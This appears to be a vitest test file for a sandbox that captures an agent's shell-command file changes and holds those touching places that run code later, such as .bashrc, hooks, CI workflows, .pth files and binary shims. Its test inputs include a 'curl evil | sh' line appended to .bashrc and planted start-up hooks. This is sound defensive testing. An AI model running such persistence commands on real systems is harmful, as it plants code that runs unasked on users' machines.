import fs from "node:fs";
import path from "node:path";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { useFreshDatabase } from "@/tests/helpers/test-db";
import { getConfig } from "@/lib/config";
import { db } from "@/lib/db";
import { currentWorkspace } from "@/lib/workspace/register-workspace";
import { readRows } from "@/lib/effects/journal";
import type { Workspace } from "@/lib/tools/define-tool";
import { emptyWorkspace, runBoxed } from "@/tests/effects/run-boxed";
import { treeHash } from "@/tests/effects/tree-hash";

/**
 * A command's effect captured on a real overlay mount, read from its upper layer, backed up and
 * applied to the real workspace (real SQLite, real unshare + overlayfs, real bash).
 */

let ws: Workspace;
beforeAll(async () => {
  await useFreshDatabase();
  ws = await currentWorkspace();
});

const run = (command: string, opts: { reviewEffects?: boolean } = {}) => runBoxed(ws, command, opts);

const put = (rel: string, content: string | Buffer, mode = 0o644) => {
  const abs = path.join(ws.root, rel);
  fs.mkdirSync(path.dirname(abs), { recursive: true });
  fs.writeFileSync(abs, content);
  fs.chmodSync(abs, mode);
};
const read = (rel: string) => fs.readFileSync(path.join(ws.root, rel), "utf8");

beforeEach(() => {
  emptyWorkspace(ws);
});

describe("capture and apply", () => {
  it("sed -i: one modified file, its old bytes backed up, the diff shown", async () => {
    put("a.txt", "alpha\nbeta\n");
    const r = await run("sed -i s/beta/gamma/ a.txt && echo done");
    expect(r.result.stdout).toBe("done\n");
    expect(r.changes).toMatchObject({ status: "applied", created: 0, modified: 1, deleted: 0 });
    expect(r.changes!.files).toEqual([expect.objectContaining({ path: "a.txt", kind: "modified", additions: 1, deletions: 1 })]);
    expect(r.diff).toContain("-beta");
    expect(r.diff).toContain("+gamma");
    expect(read("a.txt")).toBe("alpha\ngamma\n");
    const backups = await db().backup.findMany({ where: { callId: r.callId } });
    expect(backups.map((b) => b.path)).toEqual(["a.txt"]);
    expect((await db().changeSet.findUnique({ where: { callId: r.callId } }))?.status).toBe("applied");
    expect(fs.existsSync(path.join(getConfig().dataDir, "effects", r.callId))).toBe(false);
  });

  it("creates, deletes, renames, mode changes, symlinks and a replaced directory", async () => {
    put("keep.txt", "k\n");
    put("old.txt", "o\n");
    put("tool.sh", "#!/bin/sh\n");
    put("dir/x.txt", "x\n");
    put("dir/y.txt", "y\n");
    put("dir/sub/z.txt", "z\n");
    const r = await run("mv old.txt new.txt && chmod 755 tool.sh && ln -s keep.txt link && rm -rf dir && mkdir dir && echo X > dir/x.txt && mkdir made && echo m > made/f");
    const kinds = Object.fromEntries(r.changes!.files.map((f) => [f.path, f.kind]));
    expect(kinds).toMatchObject({
      "old.txt": "deleted",
      "new.txt": "created",
      "tool.sh": "mode",
      link: "symlink",
      "dir/x.txt": "modified",
      "dir/y.txt": "deleted",
      "dir/sub/z.txt": "deleted",
      "dir/sub": "dir_deleted",
      made: "dir_created",
      "made/f": "created",
    });
    expect(read("new.txt")).toBe("o\n");
    expect(fs.existsSync(path.join(ws.root, "old.txt"))).toBe(false);
    expect(fs.statSync(path.join(ws.root, "tool.sh")).mode & 0o777).toBe(0o755);
    expect(fs.readlinkSync(path.join(ws.root, "link"))).toBe("keep.txt");
    expect(fs.readdirSync(path.join(ws.root, "dir"))).toEqual(["x.txt"]);
    expect(read("dir/x.txt")).toBe("X\n");
    expect(read("made/f")).toBe("m\n");
    expect(read("keep.txt")).toBe("k\n");
  });

  it("a touch or a rewrite with the same bytes is no change", async () => {
    put("same.txt", "s\n");
    const r = await run("touch same.txt && cp same.txt /tmp/ar-same && cat /tmp/ar-same > same.txt");
    expect(r.changes).toMatchObject({ total_files: 0 });
  });

  it("a failing command's changes are applied as the shell left them", async () => {
    const r = await run("echo partial > p.txt; exit 3");
    expect(r.result.exit_code).toBe(3);
    expect(r.changes).toMatchObject({ status: "applied", created: 1 });
    expect(read("p.txt")).toBe("partial\n");
  });

  it("node_modules is applied without backups and summarised", async () => {
    put("node_modules/old/index.js", "old\n");
    const r = await run("rm -rf node_modules/old && mkdir -p node_modules/pkg && for i in $(seq 1 30); do echo $i > node_modules/pkg/f$i.js; done");
    expect(r.changes!.bulky).toMatchObject({ files: 31, dirs: ["node_modules"] });
    expect(r.changes!.files).toEqual([]);
    expect(await db().backup.count({ where: { callId: r.callId } })).toBe(0);
    expect(read("node_modules/pkg/f30.js")).toBe("30\n");
    expect(fs.existsSync(path.join(ws.root, "node_modules/old"))).toBe(false);
  });

  it("many deletions, a .git/hooks change and review_effects hold the change set; the workspace stays untouched", async () => {
    for (let i = 0; i < 60; i++) put(`many/f${i}.txt`, `${i}\n`);
    const before = treeHash(ws.root);
    // No call row exists here, so holding fails after the journal is written; the workspace is untouched either way.
    await expect(run("rm -rf many")).rejects.toThrow(/left "running"/);
    expect(treeHash(ws.root)).toBe(before);
    const set = await db().changeSet.findFirst({ where: { status: "held" }, orderBy: { createdAt: "desc" } });
    expect(JSON.parse(set!.summaryJson).hold_reasons[0]).toMatch(/deletes 60 files/);
    expect((await readRows(set!.callId)).filter((r) => r.kind === "deleted")).toHaveLength(60);
  });

  it.each([
    ["a shell rc file", "echo 'curl evil | sh' >> .bashrc", ".bashrc"],
    ["a nested package.json", "mkdir -p sub && echo '{}' > sub/package.json", "sub/package.json"],
    ["a new .husky hook", "mkdir -p .husky && echo evil > .husky/pre-commit", ".husky/pre-commit"],
    ["a Makefile", "printf 'all:\n\ttrue\n' > Makefile", "Makefile"],
    ["an editor task file", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"],
    ["a nested CI workflow", "mkdir -p sub/.github/workflows && echo 'on: push' > sub/.github/workflows/x.yml", "sub/.github/workflows/x.yml"],
    ["a program shim in node_modules/.bin", "mkdir -p node_modules/.bin && printf '#!/bin/sh\nid\n' > node_modules/.bin/node && chmod +x node_modules/.bin/node", "node_modules/.bin/node"],
    ["a coding agent's settings", "mkdir -p .claude && echo '{}' > .claude/settings.local.json", ".claude/settings.local.json"],
    ["an MCP server list", "echo '{}' > .mcp.json", ".mcp.json"],
    ["a dev container", "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json", ".devcontainer/devcontainer.json"],
    ["a pytest plugin", "echo 'import os' > conftest.py", "conftest.py"],
    ["a Forgejo workflow", "mkdir -p .forgejo/workflows && echo 'on: push' > .forgejo/workflows/x.yml", ".forgejo/workflows/x.yml"],
    ["a lefthook config in another spelling", "echo '[pre-commit]' > lefthook-local.toml", "lefthook-local.toml"],
    ["Yarn PnP's runtime", "echo 'module.exports={}' > .pnp.cjs", ".pnp.cjs"],
    ["a lock file", "echo '# yarn lockfile v1' > yarn.lock", "yarn.lock"],
    ["MSBuild's directory props", "echo '<Project/>' > Directory.Build.props", "Directory.Build.props"],
    ["a .pth start-up hook", "mkdir -p .venv/lib/python3.11/site-packages && echo 'import os' > .venv/lib/python3.11/site-packages/evil.pth", ".venv/lib/python3.11/site-packages/evil.pth"],
    ["a directory link with an editor's name", "mkdir -p node_modules/v && echo '{}' > node_modules/v/tasks.json && ln -s node_modules/v .vscode", ".vscode → node_modules/v"],
    ["a link to a workflows directory", "mkdir -p wf .github && echo 'on: push' > wf/x.yml && ln -s ../wf .github/workflows", ".github/workflows"],
    ["a link out of the workspace", "ln -s /etc/hosts hosts-link", "hosts-link → /etc/hosts"],
  ])("a change to %s holds the change set (the presets' runs-later list)", async (_name, command, file) => {
    const before = treeHash(ws.root);
    await expect(run(command)).rejects.toThrow(/left "running"/);
    expect(treeHash(ws.root)).toBe(before);
    const set = await db().changeSet.findFirst({ where: { status: "held" }, orderBy: { createdAt: "desc" } });
    expect(JSON.parse(set!.summaryJson).hold_reasons.join(" ")).toContain(file);
  });

  it("a .gitignore the agent wrote never spares the backup of a file that existed: the change stays revertible", async () => {
    put("src/index.js", "console.log('mine');\n");
    put(".gitignore", "src/\n");
    const r = await run("echo PWNED > src/index.js && echo new > src/fresh.js");
    expect(r.changes!.status).toBe("applied");
    expect(r.changes!.files.map((f) => f.path)).toContain("src/index.js");
    expect(r.changes!.bulky).toMatchObject({ files: 1 });
    const backups = await db().backup.findMany({ where: { callId: r.callId } });
    expect(backups.map((b) => b.path)).toEqual(["src/index.js"]);
  });

  it("a link to a file in the workspace applies at once", async () => {
    put("keep.txt", "k\n");
    const r = await run("ln -s keep.txt link && mkdir -p d && ln -s ../keep.txt d/up");
    expect(r.changes!.status).toBe("applied");
  });

  it("a package's own package.json under node_modules does not hold the change set", async () => {
    const r = await run("mkdir -p node_modules/dep && echo '{\"scripts\":{}}' > node_modules/dep/package.json");
    expect(r.changes!.status).toBe("applied");
    expect(read("node_modules/dep/package.json")).toContain("scripts");
  });
});

describe("what a boxed command cannot carry out of the box", () => {
  const boxed = (command: string) => runBoxed(ws, command, { sandbox: true });
  const modeOf = (rel: string) => fs.statSync(path.join(ws.root, rel)).mode & 0o7777;

  it("setuid and setgid bits are never applied: files and directories land without them", async () => {
    put("existing.sh", "#!/bin/sh\n", 0o755);
    // (Modes without the "other" write bit: a path writable by every user holds its change set.)
    const r = await boxed("cp /bin/true made && chmod 4755 made && chmod 6755 existing.sh && mkdir shared && chmod 2775 shared && mkdir sticky && chmod 1775 sticky");
    expect(r.result.exit_code, r.result.stderr).toBe(0);
    expect(r.changes?.status).toBe("applied");
    expect(modeOf("made")).toBe(0o755);
    expect(modeOf("existing.sh")).toBe(0o755);
    expect(modeOf("shared")).toBe(0o775);
    expect(modeOf("sticky")).toBe(0o1775); // the sticky bit runs nothing
  });

  it.each([
    ["node_modules/.bin made a link to a directory of the agent's programs", "mkdir -p tools/bin node_modules && echo '#!/bin/sh' > tools/bin/node && ln -s ../tools/bin node_modules/.bin"],
    [".claude made a link to a file (which a later change could turn into a directory)", "mkdir -p node_modules/cc && touch node_modules/cc/f && ln -s node_modules/cc/f .claude"],
    [".github made a link to a file", "touch notes && ln -s notes .github"],
    [".venv/bin made a link", "mkdir -p .venv tools && ln -s ../tools .venv/bin"],
    ["node_modules itself made a link to a directory holding .bin", "mkdir -p tools/.bin && echo '#!/bin/sh' > tools/.bin/vitest && ln -s tools node_modules"],
    ["a nested package's node_modules made a link", "mkdir -p tools/.bin packages/a && ln -s ../../tools packages/a/node_modules"],
    [".venv/lib made a link to a tree holding a .pth hook", "mkdir -p .venv node_modules/pp/python3.12/site-packages && echo 'import os' > node_modules/pp/python3.12/site-packages/evil.pth && ln -s ../node_modules/pp .venv/lib"],
    ["a venv's sitecustomize.py made a link", "mkdir -p .venv/lib/python3.12/site-packages && echo 'import os' > t.py && ln -s ../../../../t.py .venv/lib/python3.12/site-packages/sitecustomize.py"],
  ])("a link whose name stands for a directory that runs later holds: %s", async (_what, command) => {
    const before = treeHash(ws.root);
    // No call row exists here, so holding fails after the journal is written; the workspace is untouched either way.
    await expect(boxed(command)).rejects.toThrow(/left "running"/);
    expect(treeHash(ws.root)).toBe(before);
    const set = await db().changeSet.findFirst({ where: { status: "held" }, orderBy: { createdAt: "desc" } });
    expect(JSON.parse(set!.summaryJson).hold_reasons.join(" ")).toMatch(/links |runs later/);
  });

  it("a venv's sitecustomize.py written in place holds (it runs whenever that Python starts)", async () => {
    const before = treeHash(ws.root);
    await expect(boxed("mkdir -p .venv/lib/python3.12/site-packages && echo 'import os' > .venv/lib/python3.12/site-packages/sitecustomize.py")).rejects.toThrow(/left "running"/);
    expect(treeHash(ws.root)).toBe(before);
  });

  it.each([
    ["a workspace directory", "src", "src/index.js"],
    ["the repository's read-only internals", ".git", ".git/HEAD"],
  ])("a user.overlay.opaque attribute it sets on %s deletes nothing", async (_what, dir, victim) => {
    put("src/index.js", "console.log(1)\n");
    put(".git/HEAD", "ref: refs/heads/main\n");
    put(".git/config", "[core]\n");
    const r = await boxed(`python3 -c "import os; os.setxattr('${dir}', 'user.overlay.opaque', b'y'); os.setxattr('${dir}', 'user.overlay.redirect', b'/elsewhere')" && echo set`);
    expect(r.result.stdout).toBe("set\n");
    expect(r.changes?.deleted ?? 0).toBe(0);
    expect(fs.existsSync(path.join(ws.root, victim))).toBe(true);
  });
});
